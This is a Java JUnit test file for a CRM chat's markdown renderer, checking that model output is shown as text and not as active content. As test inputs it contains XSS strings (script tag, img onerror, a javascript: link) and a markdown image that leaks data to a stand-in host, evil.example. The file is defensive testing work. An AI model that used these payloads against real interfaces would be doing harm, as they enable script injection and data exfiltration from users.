package io.intelligencecrm.web.markdown;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;

/** Model output renders as markdown and never as active content. */
class ChatMarkdownTest {

    @Test
    void renders_emphasis_lists_and_tables() {
        String html = ChatMarkdown.toHtml("**Pipeline**\n\n- one\n\n| stage | value |\n|---|--:|\n| won | 5 |");
        assertTrue(html.contains("<strong>Pipeline</strong>"), html);
        assertTrue(html.contains("<li>one</li>"), html);
        assertTrue(html.contains("<table>") && html.contains("<td align=\"right\">5</td>"), html);
    }

    @Test
    void raw_html_in_the_text_is_shown_as_text() {
        String html = ChatMarkdown.toHtml("<script>alert(1)</script> <img src=x onerror=alert(1)>");
        assertFalse(html.contains("<script") || html.contains("<img"), html);
        assertTrue(html.contains("&lt;script&gt;"), html);
    }

    @Test
    void images_leave_only_their_alt_text() {
        String html = ChatMarkdown.toHtml("see ![the secret](https://evil.example/leak?data=42)");
        assertFalse(html.contains("evil.example"), html);
        assertTrue(html.contains("the secret"), html);
    }

    @Test
    void links_keep_only_safe_protocols_and_never_pass_a_referrer() {
        String html = ChatMarkdown.toHtml("[site](https://acme.example) [bad](javascript:alert(1)) [mail](mailto:a@b.example)");
        assertTrue(html.contains("href=\"https://acme.example\""), html);
        for (String rel : new String[] {"noopener", "noreferrer", "nofollow"}) assertTrue(html.contains(rel), html);
        assertTrue(html.contains("href=\"mailto:a"), html);
        assertFalse(html.contains("javascript:"), html);
    }

    @Test
    void nothing_renders_as_nothing() {
        assertEquals("", ChatMarkdown.toHtml(null));
        assertEquals("", ChatMarkdown.toHtml(""));
    }
}
